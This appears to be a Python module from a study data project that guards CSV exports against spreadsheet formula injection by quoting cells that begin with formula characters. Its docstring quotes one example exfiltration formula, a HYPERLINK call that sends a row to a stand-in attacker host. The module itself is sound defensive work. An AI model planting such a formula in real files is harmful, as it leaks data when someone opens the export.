"""Cells of the CSV files we write, made safe to open in a spreadsheet.

Excel, LibreOffice and Google Sheets run a cell that begins with ``=``, ``+``, ``-`` or ``@``
(or a tab or carriage return before one) as a formula: a subject id or visit name such as
``=HYPERLINK("http://ev.il/?"&B2)`` would send the row to another site when a monitor opens the
export. Such a text cell is written with a leading single quote, which spreadsheets show as
text; numbers (a study day of ``-35``) and ISO dates stay as they are.

Every CSV writer of the project passes its rows through :func:`safe_row`.
"""

import datetime
import re
from collections.abc import Iterable

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)")
_ISO_DATE = re.compile(r"[0-9]{4}-[0-9]{2}-[0-9]{2}")


def safe_cell(value) -> str:
    """``value`` as the text of a CSV cell: None is empty, a date is YYYY-MM-DD, and a text
    that a spreadsheet would read as a formula gets a leading ``'``."""
    if value is None:
        return ""
    text = value.isoformat() if isinstance(value, datetime.date) else str(value)
    if (
        text.startswith(FORMULA_STARTS)
        and not _PLAIN_NUMBER.fullmatch(text)
        and not _ISO_DATE.fullmatch(text)
    ):
        return "'" + text
    return text


def safe_row(values: Iterable) -> list[str]:
    """A row for ``csv.writer.writerow``, every cell through :func:`safe_cell`."""
    return [safe_cell(value) for value in values]
